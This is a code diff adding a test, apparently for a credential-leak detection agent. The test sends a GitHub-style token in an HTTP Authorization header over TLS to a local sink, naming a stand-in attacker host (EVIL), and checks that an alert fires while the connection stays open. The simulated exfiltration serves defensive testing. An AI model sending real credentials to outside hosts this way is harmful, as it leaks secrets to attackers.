@@ -7,6 +7,7 @@ import socket
 import ssl
 import subprocess
 import tempfile
+import threading
 import time
 
 from cwtest import Agent, Skip, github_token, require_root
@@ -449,3 +450,62 @@ def test_library_is_probed_when_it_is_opened():
     finally:
         agent.stop()
         shutil.rmtree(d, ignore_errors=True)
+
+
+class TlsSink:
+    """A TLS server in this process that reads whatever comes, connection after connection."""
+
+    def __init__(self):
+        self.dir = tempfile.mkdtemp(prefix="cw-tls-")
+        cert, key = self_signed(self.dir)
+        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        self.ctx.load_cert_chain(cert, key)
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                raw, _ = self.sock.accept()
+                with self.ctx.wrap_socket(raw, server_side=True) as c:
+                    while c.recv(65536):
+                        pass
+            except (OSError, ssl.SSLError):
+                if self.sock.fileno() < 0:
+                    return
+
+    def close(self):
+        self.sock.close()
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+
+def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open():
+    """A keep-alive connection goes quiet after a request whose token is the last thing in
+    it: the alert comes within a second or so, not when the connection closes."""
+    require_root()
+    agent = Agent("--include-loopback")
+    sink = TlsSink()
+    token = github_token()
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    s = None
+    try:
+        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
+                            server_hostname=EVIL)
+        s.sendall(b"GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n"
+                  % (EVIL.encode(), token.encode()))
+        fp = agent.key.fingerprint(token)
+        hits = agent.wait_for(lambda l: l["event"]["action"] ==
+                              "credential-unexpected-destination" and
+                              l["credential"]["fingerprint"] == fp, timeout=5)
+        assert s.fileno() >= 0	# still open
+    finally:
+        if s:
+            s.close()
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["destination"]["port"] == sink.port
+    agent.assert_no_plaintext(token)
